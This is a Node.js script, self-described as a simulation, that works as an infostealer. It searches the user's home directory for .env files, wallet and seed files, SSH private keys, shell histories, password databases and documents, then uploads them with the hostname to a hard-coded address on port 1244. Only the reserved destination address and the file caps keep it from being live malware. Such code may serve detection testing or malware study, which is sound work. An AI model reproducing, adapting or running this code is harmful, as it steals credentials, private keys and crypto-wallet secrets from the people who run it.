// SPDX-License-Identifier: Apache-2.0
// Simulation: sends to an address that is reserved and routed nowhere; at most 60 files, 20 kB of each.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const SEEK = [/\.env/i, /metamask|phantom|exodus|wallet|mnemonic|seed|secret/i, /\.(docx|xlsx|pdf|kdbx|pem|ppk)$/i, /id_(rsa|ed25519|ecdsa)$/, /(bash|zsh)_history$/];
const SKIP = new Set(['node_modules', '.git', '.cache', '.npm', '.venv']);
const found = [];
let failures = 0;

function walk(dir, depth) {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const entry of entries) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory() && depth < 6 && !SKIP.has(entry.name)) walk(full, depth + 1);
    else if (entry.isFile() && found.length < 60 && SEEK.some((shape) => shape.test(entry.name))) found.push(full);
  }
}
function upload(files) {
  const file = files.shift();
  if (!file) return;
  const edge = `----sim${Date.now()}`;
  let content = Buffer.alloc(0);
  try { content = fs.readFileSync(file).subarray(0, 20000); } catch { return upload(files); }
  const head = `--${edge}\r\nContent-Disposition: form-data; name="hid"\r\n\r\n517_${os.hostname()}\r\n--${edge}\r\nContent-Disposition: form-data; name="multi_file"; filename="${encodeURIComponent(file)}"\r\n\r\n`;
  const request = http.request({ host: '240.13.0.44', port: 1244, path: '/uploads', method: 'POST', timeout: 2500, headers: { 'Content-Type': `multipart/form-data; boundary=${edge}` } }, (answer) => { answer.resume(); answer.on('end', () => upload(files)); });
  request.on('timeout', () => request.destroy());
  request.on('error', () => { if (++failures < 3) upload(files); });
  request.end(Buffer.concat([Buffer.from(head), content, Buffer.from(`\r\n--${edge}--\r\n`)]));
}
walk(os.homedir(), 0);
upload(found);
